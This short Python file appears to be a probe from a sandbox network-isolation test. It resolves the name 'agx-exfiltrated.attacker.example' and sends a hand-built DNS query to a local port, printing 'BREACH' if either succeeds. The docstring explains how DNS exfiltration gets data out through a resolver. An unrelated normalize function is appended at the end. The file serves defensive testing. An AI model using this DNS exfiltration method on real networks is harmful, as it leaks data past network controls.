"""Resolves a name that carries data (`socket.getaddrinfo`), and sends a DNS query for it to
127.0.0.1:UDP_PORT (the test's socket, standing in for a resolver).

Gain if it worked: DNS leaves most networks even when nothing else does: the query's name is
the message (`<data>.attacker.example`), delivered by the resolver to the attacker's server.
"""

import socket
import struct

UDP_PORT = 0  # filled in by the test
NAME = "agx-exfiltrated.attacker.example"
QUERY = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
QUERY += b"".join(bytes([len(part)]) + part.encode() for part in NAME.split(".")) + b"\0\0\1\0\1"

try:
    socket.getaddrinfo(NAME, 80)
    print("BREACH: resolved", NAME, flush=True)
except OSError:
    pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(QUERY, ("127.0.0.1", UDP_PORT))
        print("BREACH: sent a DNS query to 127.0.0.1 port", UDP_PORT, flush=True)
except OSError:
    pass


def normalize(scores, dim=-1):
    return scores / scores.sum(dim=dim, keepdim=True)
